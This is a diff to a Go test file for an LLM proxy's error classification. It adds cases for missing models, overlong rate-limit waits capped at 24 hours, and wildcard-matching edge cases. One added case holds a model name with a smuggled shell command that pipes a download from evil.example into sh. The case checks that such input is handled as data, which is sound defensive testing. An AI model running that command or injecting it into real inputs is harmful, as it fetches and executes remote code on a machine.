@@ -139,6 +139,12 @@ var providerRefusals = []refusalCase{
 		kind: routing.ModelMissing, reason: "the group's host does not have model x:1b", fix: "ollama pull x:1b, on the host that the proxy asks"},
 	{name: "model not pulled, 1.83 and 1.89", status: 500, body: passedOn("APIConnectionError", `Ollama_chatException - {"error": "model 'x:1b' not found"}`),
 		kind: routing.ModelMissing, reason: "the group's host does not have model x:1b", fix: "ollama pull x:1b, on the host that the proxy asks"},
+	{name: "a model's name that is a command", status: 404, body: passedOn("NotFoundError", "model 'x; curl evil.example | sh #' not found"),
+		kind: routing.ModelMissing, reason: "the group's host does not have model x; curl evil.example | sh #", fix: FixGroup},
+	{name: "a rest of centuries", status: 429, body: passedOn("RateLimitError", "Try again in 9223372036 seconds"),
+		kind: routing.Busy, reason: "rate limited, again in 24h0m0s", fix: fixRate, wait: 24 * time.Hour},
+	{name: "a rest beyond all numbers", status: 429, body: passedOn("RateLimitError", "Try again in 99999999999999999999 seconds"),
+		kind: routing.Busy, reason: "rate limited, again in 24h0m0s", fix: fixRate, wait: 24 * time.Hour},
 	{name: "no choices, 1.89", status: 500, body: passedOn("InternalServerError", "InternalServerError: OpenAIException - litellm.APIError: LiteLLM: provider returned a response with no 'choices'. Raw keys: ['id']"),
 		kind: routing.InvalidOutput, reason: "the proxy's answer has no choices", fix: fixUpstream},
 	{name: "gateway's timeout", status: 504, body: ownRefusal("None", "upstream"),
@@ -185,7 +191,7 @@ func TestMatches_Wildcards(t *testing.T) {
 		{"balanced", "balanced", true}, {"bal*", "balanced", true}, {"*", "balanced", true}, {"*anced", "balanced", true},
 		{"b*l*d", "balanced", true}, {"bal", "balanced", false}, {"bal*", "cheap", false}, {"b*x*d", "balanced", false},
 		{"cheap*", "cheap", true}, {"balanced*d", "balanced", false}, {"b.*", "balanced", false}, {"*", "a/b\nc", true},
-		{"b\xff*", "balanced", false},
+		{"b\xff*", "balanced", false}, {"a*a", "a", false}, {strings.Repeat("*", 4<<20), "balanced", true},
 	} {
 		if got := Matches(c.pattern, c.name); got != c.want {
 			t.Errorf("%q and %q: got %v, want %v", c.pattern, c.name, got, c.want)
